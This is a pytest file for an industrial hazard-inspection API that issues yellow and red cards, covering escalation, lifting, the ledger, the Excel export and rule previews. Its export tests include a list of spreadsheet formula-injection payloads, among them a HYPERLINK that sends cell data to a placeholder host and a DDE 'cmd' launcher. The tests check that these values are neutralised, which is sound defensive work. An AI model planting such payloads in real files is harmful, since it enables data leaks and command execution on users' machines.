"""Cards kept current from findings, their lifecycle, ledger, export and rule-set preview, through the API."""

import io
import uuid
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
import sqlalchemy as sa

from cards.models import Card, CardEvent
from core.db import db
from inspections.models import Finding
from risk_rules.cards import default_ruleset
from tests.conftest import at_once, inspection_payload, requires_postgres

MAJOR = {"item_code": "HC-12", "description": "罐区未设置可燃气体检测报警装置", "category": "thing"}
GENERAL = {"item_code": "HC-G-01", "description": "警示标志缺失", "category": "thing"}


def _inspect(client, headers, enterprise, findings, days_ago=1, **fields):
    when = datetime.now(UTC) - timedelta(days=days_ago)
    fields.setdefault("checklist", [{"item_code": f["item_code"], "result": "failed"} for f in findings])
    payload = inspection_payload(enterprise, client_id=str(uuid.uuid4()), inspected_dt=when.isoformat(),
                                 findings=findings, **fields)
    response = client.post("/api/v1/inspections", headers=headers, json=payload)
    assert response.status_code == 201, response.json
    return response.json


def _cards(client, headers, enterprise):
    return client.get(f"/api/v1/enterprises/{enterprise}/cards", headers=headers).json


@pytest.fixture
def inspector(auth):
    return auth("inspector")


@pytest.fixture
def manager(auth):
    return auth("safety_manager")


def test_failed_major_item_is_major_and_issues_a_yellow_card_with_its_reason(client, inspector, make_enterprise):
    enterprise = make_enterprise()
    inspection = _inspect(client, inspector, enterprise, [MAJOR | {"severity": "general"}])
    [finding] = inspection["findings"]
    assert finding["severity"] == "major"  # a determination-standard item overrides the client
    [card] = _cards(client, inspector, enterprise)
    assert (card["colour"], card["status"], card["origin"]) == ("yellow", "active", "rule")
    [reason] = card["reasons"]
    assert reason["rule_id"] == "Y1" and reason["finding_ids"] == [finding["id"]]
    assert card["rectification_due"] is not None
    assert [e["action"] for e in card["events"]] == ["issued"]


def test_major_past_its_deadline_issues_red(client, inspector, make_enterprise):
    enterprise = make_enterprise()
    deadline = (datetime.now(UTC) - timedelta(days=3)).date().isoformat()
    _inspect(client, inspector, enterprise, [MAJOR | {"deadline": deadline}], days_ago=20)
    [card] = _cards(client, inspector, enterprise)
    assert card["colour"] == "red"
    assert [r["rule_id"] for r in card["reasons"]] == ["R1"]


def test_yellow_escalates_to_red_when_the_deadline_passes(app, client, inspector, make_enterprise):
    enterprise = make_enterprise()
    tomorrow = (datetime.now(UTC) + timedelta(days=2)).date()
    inspection = _inspect(client, inspector, enterprise, [MAJOR | {"deadline": tomorrow.isoformat()}])
    with app.app_context():
        from cards import service

        finding = db.session.get(Finding, inspection["findings"][0]["id"])
        finding.deadline = tomorrow - timedelta(days=5)  # time passes
        service.reevaluate_all()
        db.session.commit()
    [card] = _cards(client, inspector, enterprise)
    assert (card["colour"], card["issued_colour"]) == ("red", "yellow")
    assert [e["action"] for e in card["events"]] == ["issued", "escalated"]
    assert {r["rule_id"] for r in card["reasons"]} == {"Y1", "R1"}
    # the history says which reason each step added: Y1 with the issue, R1 (the same finding, overdue) with
    # the escalation
    finding_id = inspection["findings"][0]["id"]
    assert [e["added"] for e in card["events"]] == [[{"rule_id": "Y1", "finding_ids": [finding_id], "card_ids": []}],
                                                    [{"rule_id": "R1", "finding_ids": [finding_id], "card_ids": []}]]


def test_reasons_added_after_an_escalation_are_in_the_history(app, client, inspector, make_enterprise):
    """A card raised to red earlier still records the reasons added later (and which ones)."""
    enterprise = make_enterprise()
    soon = (datetime.now(UTC) + timedelta(days=2)).date()
    first = _inspect(client, inspector, enterprise, [MAJOR | {"deadline": soon.isoformat()}])["findings"][0]["id"]
    with app.app_context():
        from cards import service

        db.session.get(Finding, first).deadline = soon - timedelta(days=5)
        service.reevaluate_all()
        db.session.commit()
    second = _inspect(client, inspector, enterprise, [MAJOR])["findings"][0]["id"]
    [card] = _cards(client, inspector, enterprise)
    assert [e["action"] for e in card["events"]] == ["issued", "escalated", "reasons_added"]
    assert card["events"][-1]["added"] == [
        {"rule_id": "R2", "finding_ids": [first, second], "card_ids": []},
        {"rule_id": "Y1", "finding_ids": [second], "card_ids": []}]


def test_general_findings_below_the_threshold_issue_nothing(client, inspector, make_enterprise):
    enterprise = make_enterprise()
    _inspect(client, inspector, enterprise, [GENERAL])
    assert _cards(client, inspector, enterprise) == []


def _close(client, headers, checker, finding_id):
    """``headers`` submit the rectification, ``checker`` (someone else: issue 13) verifies it; a major hazard
    on site, by a re-inspection (recorded by ``headers``) that passed its item."""
    client.post(f"/api/v1/findings/{finding_id}/rectification", headers=headers, json={"note": "done"})
    finding, decision = client.get(f"/api/v1/findings/{finding_id}", headers=checker).json, {"accepted": True}
    if finding["severity"] == "major":
        item = finding["item_code"]
        recheck = _inspect(client, headers, finding["enterprise_id"], [], days_ago=0,
                           checklist=[{"item_code": item, "result": "passed"}] if item else [])
        decision["reinspection_id"] = recheck["id"]
    response = client.post(f"/api/v1/findings/{finding_id}/verification", headers=checker, json=decision)
    assert response.status_code == 200, response.json


def test_lifting_needs_closed_findings_and_a_passing_reinspection(client, inspector, manager, make_enterprise):
    enterprise = make_enterprise()
    finding_id = _inspect(client, inspector, enterprise, [MAJOR], days_ago=3)["findings"][0]["id"]
    [card] = _cards(client, manager, enterprise)
    clean = _inspect(client, inspector, enterprise, [], checklist=[{"item_code": "HC-12", "result": "passed"}],
                     days_ago=0)
    lift = {"reason": "复查合格", "reinspection_id": clean["id"]}
    refused = client.post(f"/api/v1/cards/{card['id']}/lift", headers=manager, json=lift)
    assert refused.status_code == 409 and str(finding_id) in refused.json["message"]
    _close(client, inspector, manager, finding_id)
    earlier = _inspect(client, inspector, enterprise, [], checklist=[{"item_code": "HC-12", "result": "passed"}],
                       days_ago=5)
    too_early = client.post(f"/api/v1/cards/{card['id']}/lift", headers=manager,
                            json=lift | {"reinspection_id": earlier["id"]})
    assert too_early.status_code == 422
    lifted = client.post(f"/api/v1/cards/{card['id']}/lift", headers=manager, json=lift)
    assert lifted.status_code == 200, lifted.json
    assert (lifted.json["status"], lifted.json["lift_reason"]) == ("lifted", "复查合格")
    assert lifted.json["events"][-1]["action"] == "lifted"
    # The lifted card's reasons do not issue a new card.
    assert [c["status"] for c in _cards(client, manager, enterprise)] == ["lifted"]
    again = client.post(f"/api/v1/cards/{card['id']}/lift", headers=manager, json=lift)
    assert again.status_code == 409


def test_second_major_within_a_year_after_lifting_issues_red(client, inspector, manager, make_enterprise):
    enterprise = make_enterprise()
    first = _inspect(client, inspector, enterprise, [MAJOR], days_ago=30)["findings"][0]["id"]
    _close(client, inspector, manager, first)
    [card] = _cards(client, manager, enterprise)
    clean = _inspect(client, inspector, enterprise, [], checklist=[{"item_code": "HC-12", "result": "passed"}],
                     days_ago=0)
    lifted = client.post(f"/api/v1/cards/{card['id']}/lift", headers=manager,
                         json={"reason": "ok", "reinspection_id": clean["id"]})
    assert lifted.status_code == 200, lifted.json
    second = _inspect(client, inspector, enterprise, [MAJOR | {"item_code": "HC-04"}], days_ago=0)
    active = [c for c in _cards(client, manager, enterprise) if c["status"] == "active"]
    assert [c["colour"] for c in active] == ["red"]
    r2 = next(r for r in active[0]["reasons"] if r["rule_id"] == "R2")
    assert r2["finding_ids"] == [first, second["findings"][0]["id"]]


def test_manual_card_with_reason_and_refusal_of_a_duplicate(client, manager, make_enterprise):
    enterprise = make_enterprise()
    issued = client.post("/api/v1/cards", headers=manager,
                         json={"enterprise_id": enterprise, "colour": "yellow", "reason": "拒绝检查"})
    assert issued.status_code == 201
    assert issued.json["origin"] == "manual" and "拒绝检查" in issued.json["reasons"][0]["text_zh"]
    duplicate = client.post("/api/v1/cards", headers=manager,
                            json={"enterprise_id": enterprise, "colour": "yellow", "reason": "again"})
    assert duplicate.status_code == 409
    red = client.post("/api/v1/cards", headers=manager,
                      json={"enterprise_id": enterprise, "colour": "red", "reason": "发生事故"})
    assert red.status_code == 201 and red.json["id"] == issued.json["id"] and red.json["colour"] == "red"
    missing = client.post("/api/v1/cards", headers=manager, json={"enterprise_id": 9999, "colour": "red",
                                                                  "reason": "x"})
    assert missing.status_code == 404


def test_ledger_filters_and_sorts_by_days_held(app, client, manager, make_enterprise):
    gas, chem = make_enterprise(sector="town_gas", zone="东港区"), make_enterprise(zone="西港区")
    for enterprise in (gas, chem):
        client.post("/api/v1/cards", headers=manager, json={"enterprise_id": enterprise, "colour": "yellow",
                                                             "reason": "r"})
    with app.app_context():  # the chemical plant's card is older
        card = db.session.scalar(sa.select(Card).where(Card.enterprise_id == chem))
        card.issued_on -= timedelta(days=40)
        db.session.commit()
    listed = client.get("/api/v1/cards?status=active", headers=manager).json
    assert [(c["enterprise_id"], c["days_held"]) for c in listed] == [(chem, 40), (gas, 0)]
    assert [c["enterprise_id"] for c in client.get("/api/v1/cards?sector=town_gas", headers=manager).json] == [gas]
    assert [c["enterprise_id"] for c in client.get("/api/v1/cards?zone=西港区", headers=manager).json] == [chem]
    assert client.get("/api/v1/cards?colour=red", headers=manager).json == []


def test_excel_export_has_chinese_headers_and_reasons(client, inspector, manager, make_enterprise):
    enterprise = make_enterprise(name="港城化工有限公司")
    _inspect(client, inspector, enterprise, [MAJOR])
    response = client.get("/api/v1/cards/export.xlsx", headers=manager)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("牌号", "企业名称", "统一社会信用代码", "行业", "园区/片区", "牌色")
    assert rows[1][1] == "港城化工有限公司" and rows[1][5] == "黄牌"
    assert "[Y1]" in rows[1][14]


def test_preview_shows_changes_and_changes_nothing(app, client, inspector, manager, make_enterprise):
    strict, calm = make_enterprise(), make_enterprise()
    _inspect(client, inspector, strict, [MAJOR])
    _inspect(client, inspector, calm, [GENERAL], days_ago=10)  # its 7-day deadline has passed

    def state():
        with app.app_context():
            return (db.session.scalar(sa.select(sa.func.count()).select_from(Card)),
                    db.session.scalar(sa.select(sa.func.count()).select_from(CardEvent)))

    before = state()
    proposed = {"id": "strict", "version": "2027.1", "effective_from": "2027-01-01", "rules": [
        {"id": "Y9", "colour": "yellow", "kind": "overdue_general_count", "params": {"min_count": 1},
         "text_zh": "一般隐患逾期", "text_en": "A general hazard overdue"},
        {"id": "R9", "colour": "red", "kind": "major_count", "params": {"min_count": 1, "months": 12},
         "text_zh": "发现重大隐患", "text_en": "A major hazard found"}]}
    response = client.post("/api/v1/cards/preview", headers=manager, json={"ruleset": proposed})
    assert state() == before
    body = response.json
    assert response.status_code == 200, body
    assert [(e["enterprise_id"], e["current"], e["proposed"]) for e in body["changed"]] == [(strict, "yellow", "red")]
    assert [(e["enterprise_id"], e["proposed"]) for e in body["gained"]] == [(calm, "yellow")]
    assert body["gained"][0]["reasons"][0]["rule_id"] == "Y9" and body["lost"] == []
    bad = client.post("/api/v1/cards/preview", headers=manager, json={"ruleset": {"rules": "nope"}})
    assert bad.status_code == 422 and "ruleset" in bad.json["errors"]["json"]


def test_default_ruleset_version_is_recorded_on_rule_cards(client, inspector, make_enterprise):
    enterprise = make_enterprise()
    _inspect(client, inspector, enterprise, [MAJOR])
    assert _cards(client, inspector, enterprise)[0]["ruleset_version"] == default_ruleset().version


def test_cli_reevaluation_escalates_when_a_deadline_has_passed(app, client, inspector, make_enterprise):
    enterprise = make_enterprise()
    inspection = _inspect(client, inspector, enterprise, [MAJOR])
    with app.app_context():
        finding = db.session.get(Finding, inspection["findings"][0]["id"])
        finding.deadline = datetime.now(UTC).date() - timedelta(days=2)
        db.session.commit()
    result = app.test_cli_runner().invoke(args=["cards", "reevaluate"])
    assert result.exit_code == 0 and "Re-evaluated 1 enterprise(s)." in result.output
    assert _cards(client, inspector, enterprise)[0]["colour"] == "red"


@requires_postgres
def test_concurrent_inspections_of_one_enterprise_share_one_card(app, auth, make_enterprise):
    enterprise, headers = make_enterprise(), auth("inspector")

    def submit():
        payload = inspection_payload(enterprise, client_id=str(uuid.uuid4()), findings=[MAJOR],
                                     checklist=[{"item_code": "HC-12", "result": "failed"}])
        return app.test_client().post("/api/v1/inspections", headers=headers, json=payload).status_code

    statuses = at_once(6, submit)
    assert statuses == [201] * 6
    # Evaluation is serialised per enterprise, so the last transaction saw all six majors.
    [card] = _cards(app.test_client(), headers, enterprise)
    assert card["colour"] == "red"  # six majors within 12 months: R2
    assert len(next(r for r in card["reasons"] if r["rule_id"] == "R2")["finding_ids"]) == 6


def _ledger(client, headers) -> bytes:
    response = client.get("/api/v1/cards/export.xlsx", headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.data


def _sheet_xml(data: bytes) -> str:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?x="&A2,"查看")', "=1+1", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
            "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,2)", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS, ids=[f"U+{ord(t[0]):04X}" + t[1:4] for t in FORMULAS])
def test_export_writes_user_text_as_text_whatever_it_starts_with(client, manager, make_enterprise, text):
    """Issue 12, item 8: an enterprise named like a formula is a text cell (never a live formula), and marked
    "quote prefix" so Excel keeps it text when the cell is edited."""
    enterprise = make_enterprise(name=text, zone=text)
    assert client.post("/api/v1/cards", headers=manager,
                       json={"enterprise_id": enterprise, "colour": "yellow", "reason": text}).status_code == 201
    data = _ledger(client, manager)
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    read = text.replace("\r", "\n")  # XML reads a line end as LF (Excel's own line break in a cell)
    for column in (2, 5):  # 企业名称, 园区/片区
        cell = sheet.cell(row=2, column=column)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (read, "s", True)


def test_export_keeps_ordinary_text_without_a_quote_prefix(client, manager, make_enterprise):
    enterprise = make_enterprise(name="港城化工有限公司", zone="3号泊位")
    client.post("/api/v1/cards", headers=manager, json={"enterprise_id": enterprise, "colour": "red", "reason": "x"})
    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
    assert [(c.value, c.quotePrefix) for c in (sheet["B2"], sheet["E2"])] == [
        ("港城化工有限公司", False), ("3号泊位", False)]


@pytest.mark.parametrize("bad", ["\uffff", "\ufffe", "\x01", "\x1b", "\ufdd0", "\U0010ffff", "\x85"])
def test_export_of_a_row_stored_before_the_input_rules_stays_readable(app, client, manager, make_enterprise, bad):
    """Issue 12, item 9: a character XML 1.0 cannot hold, already stored, does not break the file (or the
    request): it is shown as U+FFFD."""
    enterprise = make_enterprise(name=f"港区{bad}化工", zone=bad)
    client.post("/api/v1/cards", headers=manager, json={"enterprise_id": enterprise, "colour": "red", "reason": "x"})
    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
    assert (sheet["B2"].value, sheet["E2"].value) == ("港区\ufffd化工", "\ufffd")


def test_export_times_are_the_zones_wall_clock(app, client, manager, make_enterprise):
    """Issue 12, item 10: a card escalated at 04:15 local on 12-01 shows 2026-12-01 04:15, not UTC."""
    enterprise = make_enterprise()
    card_id = client.post("/api/v1/cards", headers=manager,
                          json={"enterprise_id": enterprise, "colour": "yellow", "reason": "x"}).json["id"]
    with app.app_context():
        db.session.get(Card, card_id).escalated_dt = datetime(2026, 11, 30, 20, 15, tzinfo=UTC)
        db.session.commit()
    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
    assert sheet.cell(row=1, column=12).value == "升级为红牌"
    cell = sheet.cell(row=2, column=12)
    assert (cell.value, cell.number_format) == (datetime(2026, 12, 1, 4, 15), "yyyy-mm-dd hh:mm")
